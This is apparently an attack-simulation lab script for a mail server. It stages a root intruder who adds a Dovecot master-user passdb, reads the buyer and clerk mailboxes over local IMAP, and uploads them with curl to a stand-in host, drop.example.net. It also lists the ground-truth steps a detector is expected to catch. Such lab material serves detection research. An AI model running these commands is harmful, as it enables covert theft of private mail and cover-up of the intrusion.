title="A master user is added to the mail server and every box read through it on the host itself"
what="Somebody is logged in as root from 203.0.113.77 with a stolen key. They append a passdb with master=yes and a password file to the Dovecot configuration, reload Dovecot, and python imaplib logs in as buyer*sup and clerk*sup on 127.0.0.1:143, fetches all letters into one file below /var/cache, and curl uploads the file. The lines are then removed."
user=ops daemons="cron sshd dovecot"
setup() { dovecot_config; echo 'auth_master_user_separator = *' >> /etc/dovecot/dovecot.conf; }
act() {
  letters buyer 5; letters clerk 4; small_talk 3; imap_read clerk 198.51.100.50
  LAB_SHOW=1 python3 "$lab/lib/type.py" -- nsenter -t "$outside_pid" -n -- ssh -tt -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BindAddress=203.0.113.77 -i /root/key "root@$host_ip" <<'L'
cd /etc/dovecot
printf 'passdb {\n driver = static\n master = yes\n args = password=k9\n}\n' > conf-sup
cat conf-sup dovecot.conf > d.new; cp d.new dovecot.conf; rm d.new conf-sup
doveadm -c /etc/dovecot/dovecot.conf reload
%sleep 2
cd /var/cache
python3 -c "import imaplib;f=open('/var/cache/.man-db','wb');[(lambda c:(c.login(u+'*sup','k9'),c.select('INBOX',True),[f.write(c.fetch(n,'(RFC822)')[1][0][1]) for n in c.search(None,'ALL')[1][0].split()]))(imaplib.IMAP4('127.0.0.1')) for u in ('buyer','clerk')]"
ls -l /var/cache/.man-db
curl -s -T /var/cache/.man-db http://drop.example.net/u/1
rm -f /var/cache/.man-db
L
  small_talk 1
}
truth() {
  exec_step reload 'doveadm -c /etc/dovecot/dovecot.conf reload' 'the server takes the new login'
  net_step imap 'python3.* 127.0.0.1:143' 'boxes read over IMAP on the host itself'
  net_step out 'curl 203.0.113.66:80' 'taken outside'
}
